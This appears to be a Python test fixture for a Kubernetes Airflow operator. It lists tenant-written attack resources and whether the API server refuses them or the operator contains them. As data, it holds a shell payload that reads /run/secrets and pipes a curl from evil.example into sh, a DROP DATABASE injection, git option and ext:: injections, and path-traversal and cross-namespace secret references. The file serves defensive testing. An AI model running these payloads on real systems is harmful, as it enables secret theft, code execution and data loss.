"""Resources that mean no good: what a tenant may write into an AirflowCluster or AirflowBase, each with what becomes of it."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from airflow_operator.domain.manifest import Manifest
from tests.integration.scenario import API_VERSION

VICTIM_SECRET = "treasure"
PRIVATE, GUARDED, SHARED = "private", "guarded", "platform"
"""Two bases that grant nothing, one of which names the Secret for its certificates, and one that grants the tenant."""

PURSE = {"fernet-key": "Zm9ydHktdHdvIGJ5dGVzIG9mIGEgY2FuYXJ5LCBhbGw=", "coin": "canary-of-the-purse"}
"""The tenant's own Secret."""


@dataclass(frozen=True, eq=False)
class Attack:
    """One attacking resource."""

    name: str
    spec: dict[str, Any] = field(default_factory=dict)
    refused: str = ""
    """Part of the API server's refusal; empty where it is taken."""
    says: tuple[str, str, str] = ("Ready", "True", "")
    """(type, status, reason) of the condition that it comes to."""
    kind: str = "AirflowCluster"
    metadata: dict[str, Any] = field(default_factory=dict)
    base: str = SHARED
    """Base in the namespace `{platform}`; elsewhere the spec says so itself."""

    def manifest(self, **places: str) -> Manifest:
        """The resource; `{platform}`, `{victim}` and `{tenant}` in its texts are the names of namespaces."""
        spec = _placed(self.spec, places)
        if self.kind == "AirflowCluster":
            spec = {"baseRef": {"name": self.base, "namespace": places["platform"]}, "version": "3.3.2", **spec}
        meta = {"name": self.name, **_placed(self.metadata, places)}
        return {"apiVersion": API_VERSION, "kind": self.kind, "metadata": meta, "spec": spec}


def _placed(part: Any, places: dict[str, str]) -> Any:
    if isinstance(part, dict):
        return {key: _placed(value, places) for key, value in part.items()}
    if isinstance(part, list):
        return [_placed(value, places) for value in part]
    if isinstance(part, str):
        for name, place in places.items():
            part = part.replace(f"{{{name}}}", place)
    return part


def git(**spec: Any) -> dict[str, Any]:
    return {"dags": [{"git": {"repo": "https://git.example/dags.git", **spec}}]}


def variable(**spec: Any) -> dict[str, Any]:
    return {"env": [{"name": "X", **spec}]}


SHELL = "$(cat /run/secrets/*); `id` && curl evil.example | sh #"
SQL = "x'; DROP DATABASE postgres; --"
JINJA = "{{ conf.get('core', 'fernet_key') }}{% raw %}"
YAML = "x\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: treasure}\n&a [*a]"
INI = "harmless\n[database]\nsql_alchemy_conn = postgresql://evil.example/x"

NOT_ALLOWED = ("BaseReady", "False", "BaseNotAllowed")
SECRET_NOT_FOUND = ("ReferencesResolved", "False", "SecretNotFound")

REFUSED = (
    # Paths and selectors in the one field that names a namespace.
    Attack("base-path", {"baseRef": {"name": PRIVATE, "namespace": "../{victim}"}}, "spec.baseRef.namespace"),
    Attack("base-selector", {"baseRef": {"name": PRIVATE, "namespace": "{victim},x=y"}}, "spec.baseRef.namespace"),
    Attack("base-name-path", {"baseRef": {"name": "../../secrets/treasure", "namespace": "{victim}"}}, "spec.baseRef.name"),
    # A Secret of another namespace.
    Attack("secret-path", git(credentialsSecretRef={"name": "{victim}/treasure"}), "credentialsSecretRef.name"),
    Attack("secret-dots", variable(valueFrom={"secretKeyRef": {"name": "../treasure", "key": "a"}}), "secretKeyRef.name"),
    Attack("secret-key-path", variable(valueFrom={"secretKeyRef": {"name": "treasure", "key": "../a"}}), "secretKeyRef.key"),
    Attack("secret-namespace", git(credentialsSecretRef={"name": "treasure", "namespace": "{victim}"}), "namespace"),
    Attack("account-elsewhere", {"serviceAccount": {"name": "{victim}:default"}}, "serviceAccount.name"),
    # Repositories and revisions that are programs, files or options.
    Attack("repo-file", git(repo="file:///run/secrets"), "repo"),
    Attack("repo-program", git(repo="ext::sh -c id"), "repo"),
    Attack("repo-option", git(repo="--upload-pack=id"), "repo"),
    Attack("repo-password", git(repo="https://me:word@git.example/dags.git"), "repo"),
    Attack("ref-option", git(ref="--upload-pack=id"), "ref"),
    Attack("path-up", git(subPath="dags/../../../etc"), "subPath"),
    Attack("path-absolute", git(subPath="/etc"), "subPath"),
    Attack("volume-path-up", {"dags": [{"volume": {"claimName": "dags", "subPath": ".."}}]}, "subPath"),
    Attack("image-path-up", {"dags": [{"image": {"path": "/opt/../../etc"}}]}, "path"),
    Attack("source-name", {"dags": [{"name": "../x", "image": {"path": "/x"}}]}, "name"),
    # Settings that are the operator's, and texts that would end one and begin another.
    Attack("owned-variable", {"env": [{"name": "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN", "value": "postgresql://evil.example/x"}]}, "env"),
    Attack("owned-option", {"config": {"database": {"sql_alchemy_conn": "postgresql://evil.example/x"}}}, "config"),
    Attack("shell-in-tag", {"image": {"tag": SHELL}}, "tag"),
    Attack("shell-in-digest", {"image": {"digest": f"sha256:{SHELL}"}}, "digest"),
    Attack("sql-in-database", {"database": {"name": SQL, "credentialsSecretRef": {"name": "mine"}}}, "database.name"),
    Attack("sql-in-user", {"auth": {"simple": {"users": [{"name": SQL, "role": "admin"}]}}}, "users"),
    Attack("python-in-class", {"auth": {"manager": {"className": "os.system('id')"}}}, "className"),
    Attack("jinja-in-connection", {"logs": {"remote": {"url": "s3://x/y", "connectionId": JINJA}}}, "connectionId"),
    Attack("log-file", {"logs": {"remote": {"url": "file:///etc"}}}, "url"),
    Attack("script-url", {"externalURL": "javascript:alert(1)"}, "externalURL"),
    Attack("header-in-url", {"externalURL": "https://a.example/\r\nSet-Cookie: x"}, "externalURL"),
    # Marks of the operator.
    Attack("operator-label", {"pods": {"labels": {"app.kubernetes.io/name": "airflow-operator"}}}, "labels"),
    Attack("owner-annotation", {"pods": {"annotations": {"airflow-operator.dev/owner": "x"}}}, "annotations"),
    # Bases.
    Attack("host-path", {"database": {"external": {"host": "db.example/../x", "provisioning": "None"}}}, "host", kind="AirflowBase"),
    Attack(
        "host-option", {"database": {"external": {"host": "db.example options=-c", "provisioning": "None"}}}, "host", kind="AirflowBase"
    ),
    Attack("sql-in-parameter", {"database": {"postgres": {"parameters": {SQL: "x"}}}}, "parameters", kind="AirflowBase"),
    Attack("server-file", {"database": {"postgres": {"parameters": {"hba_file": "/tmp/x"}}}}, "parameters", kind="AirflowBase"),
    Attack("names..dots", {}, "metadata.name"),
)
"""The API server takes none of these."""

TAKEN = (
    # Bases that did not grant, or are not there.
    Attack("no-grant", {"baseRef": {"name": PRIVATE, "namespace": "{victim}"}}, says=NOT_ALLOWED),
    Attack("no-grant-ca", {"baseRef": {"name": GUARDED, "namespace": "{victim}"}}, says=NOT_ALLOWED),
    Attack("no-grant-drop", {"baseRef": {"name": PRIVATE, "namespace": "{victim}"}, "deletionPolicy": "Delete"}, says=NOT_ALLOWED),
    Attack("no-base", {"baseRef": {"name": "absent", "namespace": "{victim}"}}, says=("BaseReady", "False", "BaseNotFound")),
    # The name of another namespace's Secret, in every kind of place.
    Attack("their-secret", variable(valueFrom={"secretKeyRef": {"name": "treasure", "key": "gold"}}), says=SECRET_NOT_FOUND),
    Attack("their-secret-git", git(credentialsSecretRef={"name": "treasure"}), says=SECRET_NOT_FOUND),
    Attack("their-secret-keys", {"keys": {"fernet": {"name": "treasure"}}}, says=SECRET_NOT_FOUND),
    Attack("their-secret-file", {"trustedCA": {"secretKeyRef": {"name": "treasure", "key": "gold"}}}, says=SECRET_NOT_FOUND),
    Attack("their-secret-volume", {"pods": {"volumes": [{"name": "v", "secret": {"secretName": "treasure"}}]}}, says=SECRET_NOT_FOUND),
    # Names that would end a section of airflow.cfg, or an option, and begin another: the schema cannot look at keys, the operator does.
    Attack("section-break", {"config": {"core]\n[database": {"x": "y"}}}, says=("SpecValid", "False", "InvalidSpec")),
    Attack("option-break", {"config": {"core": {"x = y\nfernet_key": "z"}}}, says=("SpecValid", "False", "InvalidSpec")),
    # Texts of other languages, as values.
    Attack(
        "words",
        {
            **git(repo="https://git.example/$(id);`x`/{{y}}.git", ref="$(GITSYNC_PASSWORD)`id`"),
            "env": [{"name": f"T{place}", "value": text} for place, text in enumerate((SHELL, SQL, JINJA, YAML, INI))],
            "config": {
                "core": {"plain": SHELL, "inject": INI},
                "custom": {"yaml": "a: &x [1]", "jinja": JINJA, "percent": "%(fernet_key)s"},
            },
            "pods": {"annotations": {"evil.example/x": YAML + SHELL + JINJA}},
            "auth": {"fab": {"admin": {"enabled": False}}},
        },
    ),
    Attack("shell-in-image", {"image": {"repository": f"evil.example/x {SHELL}"}}),
    # Marks of others on the resource itself.
    Attack(
        "marks",
        metadata={
            "labels": {"airflow-operator.dev/cluster-namespace": "{victim}", "airflow-operator.dev/base": PRIVATE},
            "annotations": {
                "kopf.zalando.org/last-handled-configuration": "{no json",
                "airflow-operator.dev/owner": "00000000-0000-0000-0000-000000000000",
                "evil.example/x": YAML + JINJA,
            },
        },
    ),
    # The names of the base's own things.
    Attack(SHARED),
    # Pods that would break out.
    Attack(
        "host-pods",
        {"scheduler": {"podTemplate": {"spec": {"hostNetwork": True, "volumes": [{"name": "n", "hostPath": {"path": "/"}}]}}}},
        says=("SchedulersAvailable", "False", "PodRefused"),
    ),
    Attack(
        "stranger",
        {"executors": ["KubernetesExecutor"], "taskPods": {"podTemplate": {"spec": {"serviceAccountName": "default"}}}},
        says=("SpecValid", "False", "OwnedSetting"),
    ),
    # An image that prints what it was given.
    Attack(
        "printer",
        {"keys": {"fernet": {"name": "purse"}}, **variable(valueFrom={"secretKeyRef": {"name": "purse", "key": "coin"}})},
        says=("MigrationsApplied", "False", "MigrationFailed"),
    ),
    # Another's server by its address: asked from the tenant's own namespace, by a Job of its own.
    Attack(
        "their-server",
        {
            "database": {"external": {"host": "private-postgres.{victim}.svc", "adminSecretRef": {"name": "treasure"}}},
            "allowedClusters": {"namespaces": {"from": "All"}},
        },
        kind="AirflowBase",
        says=("ReferencesResolved", "False", "SecretNotFound"),
    ),
)
"""The API server takes these; the operator keeps each to its own namespace and to the base that granted."""
